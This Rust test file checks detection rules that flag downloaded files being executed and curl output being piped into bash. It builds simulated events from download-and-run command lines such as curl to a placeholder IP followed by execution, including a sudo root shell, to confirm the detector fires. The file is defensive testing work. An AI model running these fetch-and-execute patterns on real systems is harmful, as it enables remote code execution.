use std::time::Duration;

use lanner_sdk::prelude::Severity::{High, Medium};
use lanner_sdk::testing::{PackTest, exec, open, process};
use starter::Starter;

use super::{finds, found, silent};

const RULE: &str = "execution/download-and-run";

#[test]
fn a_download_that_is_run() {
    let bash = process("/usr/bin/bash");
    let curl = process("/usr/bin/curl").args(["curl", "-o", "/srv/x", "http://192.0.2.1/x"]).parent(&bash);
    let fetched = open("/srv/x").created().file(8, 42).by(&curl);
    let ran = exec(process("/srv/x").exe_file(8, 42).parent(&bash)).after(Duration::from_secs(90));
    let message = "/usr/bin/bash ran /srv/x, 90 s after it was downloaded";
    finds([fetched.clone(), ran.clone()], RULE, High, message);
    let findings = found([fetched.clone(), ran.clone(), ran.clone()]);
    assert_eq!(findings.len(), 1, "once a download");
    assert_eq!(findings[0].events, [1, 2]);
    assert_eq!(findings[0].field("downloaded by"), Some("curl -o /srv/x http://192.0.2.1/x"));
    // It is the same file under another name.
    let renamed = exec(process("/usr/local/bin/y").exe_file(8, 42).parent(&bash));
    finds([fetched, renamed], RULE, High, "/usr/bin/bash ran /usr/local/bin/y, 0 s after it was downloaded");
}

#[test]
fn a_downloaded_script() {
    let wget = process("/usr/bin/wget");
    let fetched = || open("/home/ada/x.sh").created().file(8, 43).by(&wget);
    let called = process("/usr/bin/bash").args(["bash", "./x.sh"]).script("/home/ada/x.sh");
    let message = ", 0 s after it was downloaded";
    let by_kernel = found([fetched(), exec(called)]);
    assert_eq!((by_kernel.len(), &*by_kernel[0].rule), (1, RULE));
    assert!(by_kernel[0].message.ends_with(message), "{}", by_kernel[0].message);
    let given = process("/usr/bin/python3.11").args(["python3", "x.sh"]);
    let message = "/usr/bin/python3.11 was given /home/ada/x.sh, 0 s after it was downloaded";
    let read = open("/home/ada/x.sh").file(8, 43);
    finds([fetched(), read.clone().by(&given)], "execution/downloaded-script", High, message);
    // Data that a script reads is not run.
    silent([fetched(), read.clone().by(process("/usr/bin/python3.11").args(["python3", "count.py"]))]);
    silent([fetched(), read.by(process("/usr/bin/less").args(["less", "x.sh"]))]);
}

#[test]
fn a_download_that_the_shell_writes() {
    let bash = process("/usr/bin/bash");
    // The forked shell opens the file, then becomes curl.
    let curl = process("/usr/bin/curl").args(["curl", "http://192.0.2.1/x"]).parent(&bash);
    let forked = curl.clone().exe("/usr/bin/bash");
    let opened = || open("/srv/x").created().file(8, 44).by(&forked);
    let ran = || exec(process("/srv/x").exe_file(8, 44).parent(&bash));
    let message = "/usr/bin/bash ran /srv/x, 0 s after it was downloaded";
    finds([opened(), exec(&curl), ran()], RULE, High, message);
    silent([opened(), exec(process("/usr/bin/sort").parent(&bash)), ran()]);
    let busybox = |called: &str| process("/bin/busybox").args([called]);
    silent([open("/srv/x").created().file(8, 44).by(busybox("cp")), ran()]);
    finds([open("/srv/x").created().file(8, 44).by(busybox("wget")), ran()], RULE, High, message);
}

#[test]
fn what_is_not_a_download_that_is_run() {
    let curl = process("/usr/bin/curl");
    let ran = || exec(process("/srv/x").exe_file(8, 42));
    silent([open("/srv/x").created().file(8, 42).by(process("/usr/bin/cp")), ran()]);
    silent([open("/srv/x").file(8, 42).by(&curl), ran()]);
    silent([open("/srv/x").failed(13).write().file(8, 42).by(&curl), ran()]);
    silent([open("/srv/y").created().file(8, 41).by(&curl), ran()]);
    // /dev/null has an inode too.
    silent([open("/dev/null").write().file_mode(0o020_666).file(8, 42).by(&curl), ran()]);
    let late = ran().after(Duration::from_secs(31 * 60));
    silent([open("/srv/x").created().file(8, 42).by(&curl), late]);
}

#[test]
fn what_was_downloaded_is_known_after_a_reload() {
    let mut test = PackTest::<Starter>::new();
    assert!(test.feed([open("/srv/x").created().file(8, 42).by(process("/usr/bin/curl"))]).is_empty());
    test.save_and_restore();
    assert_eq!(test.feed([exec(process("/srv/x").exe_file(8, 42))])[0].rule, RULE);
}

#[test]
fn a_download_into_a_shell() {
    let bash = process("/usr/bin/bash");
    let curl = || exec(process("/usr/bin/curl").args(["curl", "-s", "http://192.0.2.1/x"]).parent(&bash));
    let shell = process("/usr/bin/bash").args(["bash"]).parent(&bash);
    let rule = "execution/download-piped-to-shell";
    let message = "/usr/bin/bash runs what was downloaded by: curl -s http://192.0.2.1/x";
    // Which half begins first is chance.
    finds([curl(), exec(&shell).stdin_pipe()], rule, Medium, message);
    finds([exec(&shell).stdin_pipe(), curl()], rule, Medium, message);
    let sudo = process("/usr/bin/sudo").parent(&bash);
    let root_shell = process("/usr/bin/bash").args(["bash", "-s", "--", "install"]).parent(&sudo);
    finds([curl(), exec(root_shell).stdin_pipe()], rule, Medium, message);
}

#[test]
fn a_download_into_something_else() {
    let bash = process("/usr/bin/bash");
    let curl = || exec(process("/usr/bin/curl").parent(&bash));
    for filter in [vec!["python3", "-m", "json.tool"], vec!["python3", "-c", "pass"], vec!["bash", "filter.sh"]] {
        let exe = if filter[0] == "bash" { "/usr/bin/bash" } else { "/usr/bin/python3.11" };
        silent([curl(), exec(process(exe).args(filter).parent(&bash)).stdin_pipe()]);
    }
    silent([curl(), exec(process("/usr/bin/jq").parent(&bash)).stdin_pipe()]);
    silent([curl(), exec(process("/usr/bin/bash").parent(&bash)).stdin_tty()]);
    // Another shell's pipeline, and one that came much later.
    let other = process("/usr/bin/bash").parent(process("/usr/bin/zsh"));
    silent([curl(), exec(other).stdin_pipe()]);
    let shell = exec(process("/usr/bin/bash").parent(&bash)).stdin_pipe();
    silent([curl(), shell.clone().after(Duration::from_secs(11))]);
    silent([shell, curl().after(Duration::from_secs(11))]);
}
